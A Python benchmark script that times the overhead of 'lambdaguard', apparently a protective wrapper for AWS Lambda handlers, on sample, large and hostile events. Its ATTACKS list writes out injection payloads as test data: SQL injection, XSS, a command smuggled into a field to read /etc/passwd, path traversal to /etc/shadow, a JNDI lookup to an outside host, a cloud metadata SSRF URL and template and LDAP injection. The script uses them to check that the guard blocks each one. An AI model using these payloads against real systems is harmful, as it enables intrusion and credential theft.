"""What the guard adds to a warm invocation, as a multiple of `json.loads` of the same event, measured in one run.

    python benchmarks/warm.py [EVENT.json …]
    python benchmarks/warm.py --large           bodies of 1, 2, 4 and 6 MB
    python benchmarks/warm.py --hostile         events that carry an attack, each a new one

Rounds of every variant are interleaved and the best of each is kept, so that a busy machine hurts all of them alike.
"""

from __future__ import annotations

import gc
import json
import pathlib
import sys
import time
from contextlib import redirect_stdout
from io import StringIO

sys.path.insert(0, str(pathlib.Path(__file__).parent.parent))

from benchmarks.suite.bodies import bodies, posted
from benchmarks.suite.renewal import renewed
from lambdaguard import guard

ROUNDS, CALLS = 40, 200
NAMES = ("apigateway-rest.order", "apigateway-http.order", "alb.multi", "sqs.orders", "s3.created")


def bare(event: object, context: object) -> dict[str, object]:
    return {"statusCode": 200, "body": "{}"}


guarded = guard(bare)
SAMPLES = pathlib.Path(__file__).parent.parent / "tests" / "data" / "events"


def measure(text: str) -> dict[str, float]:
    """Best microseconds a call of each variant."""
    best: dict[str, float] = {}
    same = json.loads(text)
    clock = time.thread_time
    for turn in range(ROUNDS):
        copies = [json.loads(text) for _ in range(CALLS)]
        fresh = [renewed(same, turn * CALLS + at + 1) for at in range(CALLS)]
        variants = {
            "json.loads": lambda: [json.loads(text) for _ in range(CALLS)],
            "bare": lambda copies=copies: [bare(event, None) for event in copies],
            "guarded, strings repeat": lambda copies=copies: [guarded(event, None) for event in copies],
            "guarded, strings new": lambda fresh=fresh: [guarded(event, None) for event in fresh],
        }
        guarded(same, None)
        for name, run in variants.items():
            gc.collect()
            gc.disable()
            start = clock()
            run()
            took = (clock() - start) / CALLS * 1e6
            gc.enable()
            best[name] = min(took, best.get(name, took))
    return best


def large() -> None:
    print(
        f"Python {sys.version.split()[0]}; best of 5; milliseconds; json.loads of the event, and of its body where that is JSON"
    )
    print(f"{'body':30} {'MB':>3} {'json.loads':>10} {'guarded':>8} {'ratio':>6}")
    wide = guard(bare, limits={"bytes": 10**8, "fields": 10**7})
    for megabytes in (1, 2, 4, 6):
        rounds = [bodies(megabytes * 1_000_000, seed) for seed in range(5)]
        for name in rounds[0]:
            loads = took = float("inf")
            for made in rounds:
                kind, body = made[name]
                event = json.dumps(posted(kind, body))
                start = time.thread_time()
                parsed = json.loads(event)
                if kind == "application/json":
                    json.loads(body)
                between = time.thread_time()
                said = wide(parsed, None)
                took, loads = min(took, time.thread_time() - between), min(loads, between - start)
                assert said == bare(None, None), f"{name} was refused"
            print(f"{name:30} {megabytes:3} {loads * 1e3:10.1f} {took * 1e3:8.1f} {took / loads:6.1f}", flush=True)


ATTACKS = (
    "{n}' UNION SELECT card, {n} FROM payments-- -", "<img src={n} onerror=alert({n})>", "x{n}; cat /etc/passwd", "../../../{n}/../etc/shadow",
    "${{jndi:ldap://203.0.113.66/{n}}}", "http://169.254.169.254/latest/{n}", "{{{{{n}*7}}}}{{{{''.__class__.__mro__}}}}", "x{n})(|(uid=*",
)  # fmt: skip


def hostile() -> None:
    """Attacks nobody sent before, one in a field among honest ones; the log line of each finding is part of the time."""
    print(f"{'attack':45} {'median':>7} {'99th':>7}  microseconds an event")
    for attack in ATTACKS:
        times = []
        for number in range(300):
            text = attack.format(n=number + 1000)
            event = posted("application/json", json.dumps({"name": "Ann O'Brien", "note": "It's 5 < 6; isn't it?", "q": text}))
            with redirect_stdout(StringIO()):
                start = time.thread_time()
                said = guarded(event, None)
                times.append((time.thread_time() - start) * 1e6)
            assert said != bare(None, None), attack
        times.sort()
        print(f"{attack:45} {times[150]:7.0f} {times[296]:7.0f}", flush=True)


def main(paths: list[str]) -> None:
    if paths in (["--large"], ["--hostile"]):
        (large if paths == ["--large"] else hostile)()
        return
    chosen = [pathlib.Path(path) for path in paths] or [SAMPLES / f"{name}.json" for name in NAMES]
    print(f"Python {sys.version.split()[0]}; best of {ROUNDS} rounds of {CALLS} calls; microseconds a call")
    print(f"{'event':34} {'json.loads':>10} {'bare':>6} {'repeat':>8} {'new':>8} {'repeat/json':>12} {'new/json':>9}")
    for path in chosen:
        best = measure(path.read_text())
        loads, base = best["json.loads"], best["bare"]
        repeat, new = best["guarded, strings repeat"], best["guarded, strings new"]
        row = f"{path.stem[:34]:34} {loads:10.1f} {base:6.2f} {repeat:8.1f} {new:8.1f}"
        print(f"{row} {(repeat - base) / loads:12.2f} {(new - base) / loads:9.2f}", flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
